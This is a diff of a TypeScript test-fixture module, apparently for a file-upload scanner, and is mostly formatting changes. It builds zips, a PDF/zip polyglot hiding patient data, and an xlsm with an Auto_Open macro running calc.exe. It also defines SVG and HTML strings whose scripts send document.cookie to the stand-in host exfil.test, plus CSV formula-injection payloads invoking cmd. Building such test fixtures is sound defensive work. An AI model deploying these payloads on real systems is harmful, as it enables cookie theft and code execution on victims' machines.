@@ -18,8 +18,16 @@ type Entry = {
   dataDescriptor?: boolean;
 };
 
-const u16 = (n: number) => { const b = Buffer.alloc(2); b.writeUInt16LE(n); return b; };
-const u32 = (n: number) => { const b = Buffer.alloc(4); b.writeUInt32LE(n >>> 0); return b; };
+const u16 = (n: number) => {
+  const b = Buffer.alloc(2);
+  b.writeUInt16LE(n);
+  return b;
+};
+const u32 = (n: number) => {
+  const b = Buffer.alloc(4);
+  b.writeUInt32LE(n >>> 0);
+  return b;
+};
 
 /**
  * A zip written the way the zip format says (local headers, central directory, end record), with
@@ -41,12 +49,43 @@ export function zip(entries: Entry[]): Buffer {
     const method = deflate ? 8 : 0;
     const name = Buffer.from(entry.name, 'utf8');
     const [hCrc, hCsize, hSize] = entry.dataDescriptor ? [0, 0, 0] : [crc, body.length, size];
-    const local = Buffer.concat([u32(0x04034b50), u16(20), u16(flags), u16(method), u16(0), u16(0x21), u32(hCrc), u32(hCsize), u32(hSize), u16(name.length), u16(0), name]);
+    const local = Buffer.concat([
+      u32(0x04034b50),
+      u16(20),
+      u16(flags),
+      u16(method),
+      u16(0),
+      u16(0x21),
+      u32(hCrc),
+      u32(hCsize),
+      u32(hSize),
+      u16(name.length),
+      u16(0),
+      name,
+    ]);
     const descriptor = entry.dataDescriptor ? Buffer.concat([u32(0x08074b50), u32(crc), u32(body.length), u32(size)]) : Buffer.alloc(0);
-    central.push(Buffer.concat([
-      u32(0x02014b50), u16(20), u16(20), u16(flags), u16(method), u16(0), u16(0x21), u32(crc), u32(body.length), u32(size),
-      u16(name.length), u16(0), u16(0), u16(0), u16(0), u32(0), u32(offset), name,
-    ]));
+    central.push(
+      Buffer.concat([
+        u32(0x02014b50),
+        u16(20),
+        u16(20),
+        u16(flags),
+        u16(method),
+        u16(0),
+        u16(0x21),
+        u32(crc),
+        u32(body.length),
+        u32(size),
+        u16(name.length),
+        u16(0),
+        u16(0),
+        u16(0),
+        u16(0),
+        u32(0),
+        u32(offset),
+        name,
+      ]),
+    );
     parts.push(local, body, descriptor);
     offset += local.length + body.length + descriptor.length;
   }
@@ -86,7 +125,10 @@ export const encryptedZip = () => zip([{ name: 'secret.csv', data: randomBytes(2
 
 /** A valid PDF header and body that is also a valid zip (the zip's offsets count from the file start). */
 export function pdfZipPolyglot(): Buffer {
-  const pdf = Buffer.from('%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n', 'latin1');
+  const pdf = Buffer.from(
+    '%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n',
+    'latin1',
+  );
   const archive = zip([{ name: 'hidden.csv', data: Buffer.from('patient_id,postcode\nP1,SW1A 1AA\n') }]);
   // Shift the central directory's offsets by the PDF in front, as polyglot tools do.
   const shifted = Buffer.from(archive);
@@ -105,18 +147,35 @@ export function xlsmWithMacros(): Buffer {
   const rel = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
   const text = (name: string, xml: string): Entry => ({ name, data: Buffer.from(xml) });
   return zip([
-    text('[Content_Types].xml', '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'),
+    text(
+      '[Content_Types].xml',
+      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
+    ),
     text('_rels/.rels', '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'),
     text('xl/workbook.xml', `<workbook ${ns} ${rel}><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`),
-    text('xl/_rels/workbook.xml.rels', '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
-    text('xl/worksheets/sheet1.xml', `<worksheet ${ns}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>ward</t></is></c><c r="B1" t="inlineStr"><is><t>count</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>A</t></is></c><c r="B2"><v>120</v></c></row><row r="3"><c r="A3" t="inlineStr"><is><t>B</t></is></c><c r="B3"><v>98</v></c></row></sheetData></worksheet>`),
+    text(
+      'xl/_rels/workbook.xml.rels',
+      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
+    ),
+    text(
+      'xl/worksheets/sheet1.xml',
+      `<worksheet ${ns}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>ward</t></is></c><c r="B1" t="inlineStr"><is><t>count</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>A</t></is></c><c r="B2"><v>120</v></c></row><row r="3"><c r="A3" t="inlineStr"><is><t>B</t></is></c><c r="B3"><v>98</v></c></row></sheetData></worksheet>`,
+    ),
     // An OLE compound file header is enough: no macro needs to run for the file to carry one.
-    { name: 'xl/vbaProject.bin', data: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.from('Attribute VB_Name = "Module1"\nSub Auto_Open()\nShell "calc.exe"\nEnd Sub\n')]) },
+    {
+      name: 'xl/vbaProject.bin',
+      data: Buffer.concat([
+        Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
+        Buffer.from('Attribute VB_Name = "Module1"\nSub Auto_Open()\nShell "calc.exe"\nEnd Sub\n'),
+      ]),
+    },
   ]);
 }
 
-export const SVG_WITH_SCRIPT = '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("https://exfil.test/?"+document.cookie)</script><rect width="10" height="10"/></svg>\n';
-export const HTML_WITH_SCRIPT = '<!DOCTYPE html>\n<html><head><title>Results</title></head><body><table><tr><td>A</td><td>120</td></tr></table><script>fetch("https://exfil.test/?"+document.cookie)</script></body></html>\n';
+export const SVG_WITH_SCRIPT =
+  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("https://exfil.test/?"+document.cookie)</script><rect width="10" height="10"/></svg>\n';
+export const HTML_WITH_SCRIPT =
+  '<!DOCTYPE html>\n<html><head><title>Results</title></head><body><table><tr><td>A</td><td>120</td></tr></table><script>fetch("https://exfil.test/?"+document.cookie)</script></body></html>\n';
 export const CSV_FORMULAS = "ward,count\n=cmd|' /C calc'!A0,120\n+cmd|' /C calc'!A0,98\n-2+3+cmd|' /C calc'!A0,57\n@SUM(1+9)*cmd|' /C calc'!A0,44\n";
 export const CLEAN_TABLE = 'ward,admissions_2024,admissions_2025\nA,120,134\nB,98,101\nC,57,66\n';
 
